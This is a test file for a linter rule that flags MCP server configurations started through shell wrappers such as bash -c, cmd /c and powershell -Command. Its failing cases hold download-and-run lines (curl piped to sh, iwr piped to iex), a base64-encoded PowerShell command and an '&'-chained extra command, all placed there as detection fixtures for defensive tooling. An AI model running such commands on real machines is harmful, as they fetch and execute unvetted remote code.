import { shellWrapper } from '../../../src/core/rules/shell-wrapper';
import { ruleTable } from '../helpers/ruleTester';

const cursor = (command: string, args: string[]) => JSON.stringify({ mcpServers: { s: { command, args } } }, null, 2);

ruleTable(shellWrapper, {
  valid: [
    { name: 'npx directly', path: '/p/.cursor/mcp.json', text: cursor('npx', ['-y', 'pkg@1.0.0']) },
    { name: 'cmd /c with one command (the usual Windows form)', path: '/p/.cursor/mcp.json', text: cursor('cmd', ['/c', 'npx', '-y', 'pkg@1.0.0']) },
    { name: 'cmd /c with one command in a string', path: '/p/.cursor/mcp.json', text: cursor('cmd', ['/c', 'npx -y pkg@1.0.0']) },
    { name: 'bash running a script file', path: '/p/.cursor/mcp.json', text: cursor('bash', ['./start.sh']) },
    { name: 'an argument holding && for a program that is not a shell', path: '/p/.cursor/mcp.json', text: cursor('node', ['server.js', '--query', 'a && b']) },
    { name: 'curl mentioned without a shell', path: '/p/.cursor/mcp.json', text: cursor('npx', ['pkg@1.0.0', '--hint', 'curl x | sh']) },
    { name: 'powershell running a file', path: '/p/.cursor/mcp.json', text: cursor('pwsh', ['-File', 'server.ps1']) },
    { name: 'disabled', path: '/p/.roo/mcp.json', text: '{"mcpServers": {"s": {"command": "bash", "args": ["-c", "x"], "disabled": true}}}' },
    { name: 'remote server', path: '/p/.vscode/mcp.json', text: '{"servers": {"r": {"type": "http", "url": "https://x.example/mcp"}}}' },
  ],
  invalid: [
    {
      name: 'bash -c',
      path: '/p/.cursor/mcp.json',
      text: cursor('bash', ['-c', 'npx -y pkg']),
      errors: [{ text: 'npx -y pkg', message: "started by bash -c 'npx -y pkg'", severity: 'warning', path: ['mcpServers', 's', 'args', 1] }],
    },
    {
      name: 'sh -lc',
      path: '/p/.cursor/mcp.json',
      text: cursor('/bin/sh', ['-lc', 'cd /srv && exec ./run']),
      errors: [{ message: "sh -lc 'cd /srv && exec ./run'" }],
    },
    {
      name: 'a command string with double quotes reads as the shell would take it',
      path: '/p/.gemini/settings.json',
      text: cursor('bash', ['-lc', 'cd "$(git rev-parse --show-toplevel)" && exec ./run']),
      errors: [{ message: `bash -lc 'cd "$(git rev-parse --show-toplevel)" && exec ./run'` }],
    },
    {
      name: 'a command string with a single quote is shown as a JSON string',
      path: '/p/.cursor/mcp.json',
      text: cursor('sh', ['-c', "echo 'hi' && x"]),
      errors: [{ message: `sh -c "echo 'hi' && x"` }],
    },
    {
      name: 'zsh in the command string',
      path: '/p/.mcp.json',
      text: '{"mcpServers": {"s": {"command": "zsh -c \'source ~/.zshrc; mcp-x\'"}}}',
      errors: [{ text: 'source ~/.zshrc; mcp-x', message: 'zsh -c' }],
    },
    { name: 'env then bash -c', path: '/p/.cursor/mcp.json', text: cursor('env', ['A=1', 'bash', '-c', 'x']), errors: [{ text: 'x' }] },
    {
      name: 'cmd /c with two commands',
      path: '/p/.cursor/mcp.json',
      text: cursor('cmd', ['/c', 'set X=1 && npx -y pkg']),
      errors: [{ text: 'set X=1 && npx -y pkg', message: 'more than one command' }],
    },
    {
      name: 'cmd /c with & as its own arg',
      path: '/p/.cursor/mcp.json',
      text: cursor('cmd.exe', ['/c', 'npx', 'pkg', '&', 'calc']),
      errors: [{ text: '&', message: 'after "&"' }],
    },
    { name: 'cmd /c then bash -c', path: '/p/.cursor/mcp.json', text: cursor('cmd', ['/c', 'bash', '-c', 'x']), errors: [{ text: 'x', message: 'bash -c' }] },
    {
      name: 'curl | sh',
      path: '/p/.cursor/mcp.json',
      text: cursor('sh', ['-c', 'curl -fsSL https://get.example.com/install.sh | sh']),
      errors: [{ message: 'downloads a script and runs it in a shell', severity: 'error' }],
    },
    {
      name: 'bash <(curl …)',
      path: '/p/.cursor/mcp.json',
      text: cursor('bash', ['-c', 'bash <(curl -s https://x.example/i)']),
      errors: [{ severity: 'error' }],
    },
    {
      name: 'iwr | iex',
      path: '/p/.cursor/mcp.json',
      text: cursor('powershell', ['-Command', 'iwr https://x.example/a.ps1 | iex']),
      errors: [{ severity: 'error' }],
    },
    {
      name: 'powershell -Command',
      path: '/p/.cursor/mcp.json',
      text: cursor('powershell.exe', ['-NoProfile', '-Command', 'Start-Server']),
      errors: [{ text: 'Start-Server', message: 'PowerShell command string' }],
    },
    {
      name: 'powershell -EncodedCommand',
      path: '/p/.cursor/mcp.json',
      text: cursor('pwsh', ['-enc', 'ZQBjAGgAbwAgADEA']),
      errors: [{ message: 'base64-encoded', severity: 'error' }],
    },
    {
      name: 'Goose YAML',
      path: '/home/u/.config/goose/config.yaml',
      text: 'extensions:\n  x:\n    cmd: bash\n    args: ["-c", "run-it"]\n',
      errors: [{ line: 4, text: 'run-it', server: 'x' }],
    },
    {
      name: 'Continue YAML',
      path: '/p/.continue/mcpServers/a.yaml',
      text: 'mcpServers:\n  - name: s\n    command: sh\n    args:\n      - -c\n      - exec my-server\n',
      errors: [{ line: 6, text: 'exec my-server' }],
    },
    {
      name: 'Codex TOML',
      path: '/home/u/.codex/config.toml',
      text: '[mcp_servers.x]\ncommand = "bash"\nargs = ["-c", \'npx -y pkg@1.0.0 | tee log\']\n',
      errors: [{ line: 3, text: 'npx -y pkg@1.0.0 | tee log', server: 'x' }],
    },
  ],
});
